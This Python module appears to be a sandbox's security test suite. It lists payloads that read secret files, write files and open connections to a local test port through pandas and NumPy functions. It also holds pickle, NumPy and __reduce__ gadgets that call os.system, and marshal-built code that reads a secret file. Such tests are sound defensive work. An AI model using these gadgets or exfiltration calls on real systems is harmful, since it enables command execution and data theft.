"""What reads and writes files and addresses, above all by the libraries' own functions."""

from typing import Final

from tests.attacks.payload import Category, Goal, payloads

READERS: Final = payloads(
    Category.READERS,
    (Goal.FILE_READ, "read_csv", "result = pd.read_csv('$planted/t.csv')"),
    (Goal.FILE_READ, "read_table", "result = pd.read_table('$planted/t.csv', sep=',')"),
    (Goal.FILE_READ, "read_fwf", "result = pd.read_fwf('$planted/t.fwf')"),
    (Goal.FILE_READ, "read_json", "result = pd.read_json('$planted/t.json')"),
    (Goal.FILE_READ, "read_parquet", "result = pd.read_parquet('$planted/t.parquet')"),
    (Goal.FILE_READ, "read_feather", "result = pd.read_feather('$planted/t.feather')"),
    (Goal.FILE_READ, "read_stata", "result = pd.read_stata('$planted/t.dta')"),
    (Goal.FILE_READ, "read_excel", "result = pd.read_excel('$planted/t.xlsx', engine='calamine')"),
    (Goal.FILE_READ, "read_xml", "result = pd.read_xml('$planted/t.xml', parser='etree')"),
    (Goal.FILE_READ, "loadtxt", "result = np.loadtxt('$secret', dtype=str)"),
    (Goal.FILE_READ, "genfromtxt", "result = np.genfromtxt('$secret', dtype=str)"),
    (Goal.FILE_READ, "fromfile", "result = bytes(np.fromfile('$secret', dtype=np.uint8))"),
    (Goal.FILE_READ, "load", "result = np.load('$planted/t.npy')"),
    (Goal.FILE_READ, "memmap", "result = bytes(np.memmap('$secret', mode='r'))"),
    (Goal.FILE_READ, "fromregex", "result = np.fromregex('$secret', '(planted.*)', [('a', 'U40')])"),
)

WRITERS: Final = payloads(
    Category.WRITERS,
    (Goal.FILE_WRITTEN, "to_csv", "df.to_csv('$own/made.csv')\nresult = 1"),
    (Goal.FILE_WRITTEN, "to_csv over a file", "df.to_csv('$own/kept.txt', mode='w')\nresult = 1"),
    (Goal.FILE_WRITTEN, "to_csv by its keyword", "result = df.to_csv(path_or_buf='$own/made.csv')"),
    (Goal.FILE_WRITTEN, "to_json", "df.to_json('$own/made.json')\nresult = 1"),
    (Goal.FILE_WRITTEN, "to_html", "df.to_html('$own/made.html')\nresult = 1"),
    (Goal.FILE_WRITTEN, "to_string", "df.to_string('$own/made.txt')\nresult = 1"),
    (Goal.FILE_WRITTEN, "to_parquet", "df.to_parquet('$own/made.parquet')\nresult = 1"),
    (Goal.FILE_WRITTEN, "to_pickle", "df.to_pickle('$own/made.pkl')\nresult = 1"),
    (Goal.FILE_WRITTEN, "to_excel", "df.to_excel('$own/made.xlsx')\nresult = 1"),
    (Goal.FILE_WRITTEN, "to_stata", "df.to_stata('$own/made.dta')\nresult = 1"),
    (Goal.FILE_WRITTEN, "tofile", "np.arange(3).tofile('$own/made')\nresult = 1"),
    (Goal.FILE_WRITTEN, "dump", "np.arange(3).dump('$own/made')\nresult = 1"),
    (Goal.FILE_WRITTEN, "save", "np.save('$own/made.npy', np.arange(3))\nresult = 1"),
    (Goal.FILE_WRITTEN, "savetxt", "np.savetxt('$own/made.txt', np.arange(3))\nresult = 1"),
    (
        Goal.FILE_WRITTEN,
        "memmap to write",
        "m = np.memmap('$own/made', mode='w+', shape=(8,))\nm[:] = 1\nresult = 1",
    ),
    (
        Goal.FILE_WRITTEN,
        "sqlite",
        """
import sqlite3
made = sqlite3.connect(':memory:')
made.execute("attach '$own/made' as d")
made.execute('create table d.t (a)')
made.commit()
result = 1
""",
    ),
    (Goal.FILE_WRITTEN, "Series.to_csv", "df['region'].to_csv('$own/made.csv')\nresult = 1"),
)

URLS: Final = payloads(
    Category.URLS,
    (
        Goal.CONNECTION,
        "read_csv of a URL",
        "result = pd.read_csv('http://127.0.0.1:$port/?' + df['region'][0])",
    ),
    (
        Goal.CONNECTION,
        "read_json of a URL",
        "result = str(pd.read_json('http://127.0.0.1:$port/x.json', typ='series'))",
    ),
    (
        Goal.CONNECTION,
        "urlopen",
        "import urllib.request\nresult = urllib.request.urlopen('http://127.0.0.1:$port/').read()",
    ),
    (
        Goal.CONNECTION,
        "connect",
        "import socket\nsocket.create_connection(('127.0.0.1', $port)).sendall(b'x')\nresult = 1",
    ),
    (
        Goal.CONNECTION,
        "a datagram",
        "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', $port))\nresult = 1",
    ),
    (Goal.CONNECTION, "ftp", "result = pd.read_csv('ftp://127.0.0.1:$port/x.csv')"),
    (
        Goal.CONNECTION,
        "DataSource of a URL",
        "result = np.lib.npyio.DataSource('$own').open('http://127.0.0.1:$port/')",
    ),
    (
        Goal.CONNECTION,
        "read_html of a URL",
        "result = pd.read_xml('http://127.0.0.1:$port/x.xml', parser='etree')",
    ),
    (
        Goal.CONNECTION,
        "log handler",
        "import logging.handlers\nlogging.handlers.DatagramHandler('127.0.0.1', $port).send(b'x')\nresult = 1",
    ),
)

PICKLE: Final = payloads(
    Category.PICKLE,
    (
        Goal.FILE_WRITTEN,
        "gadget by loads",
        "import pickle\nresult = pickle.loads(b\"cos\\nsystem\\n(S'echo > $own/made'\\ntR.\")",
    ),
    (
        Goal.FILE_WRITTEN,
        "gadget by read_pickle",
        "import io\nresult = str(pd.read_pickle(io.BytesIO(b\"cos\\nsystem\\n(S'echo > $own/made'\\ntR.\"), compression=None))",
    ),
    (Goal.FILE_READ, "read_pickle", "result = pd.read_pickle('$planted/t.pkl')"),
    (
        Goal.FILE_WRITTEN,
        "gadget by NumPy",
        """
import io
made = np.lib.format.magic(1, 0)
header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
header += b" " * (63 - (len(header) + 10) % 64) + b"\\n"
gadget = b"cos\\nsystem\\n(S'echo > $own/made'\\ntR."
result = str(np.load(io.BytesIO(made + len(header).to_bytes(2, 'little') + header + gadget), allow_pickle=True))
""",
    ),
    (
        Goal.FILE_WRITTEN,
        "reduce of a class",
        """
import copy, os
class Gadget:
    def __reduce__(self):
        return os.system, ('echo > $own/made',)
result = str(copy.copy(Gadget()))
""",
    ),
    (
        Goal.FILE_READ,
        "code by marshal",
        "import marshal\nmade = marshal.dumps(compile(\"open('$secret').read()\", 'x', 'eval'))\nresult = eval(marshal.loads(made))",
    ),
    (
        Goal.FILE_READ,
        "code by types",
        "import types\nf = types.FunctionType(compile(\"result = open('$secret').read()\", 'x', 'exec'), globals())\nf()",
    ),
)
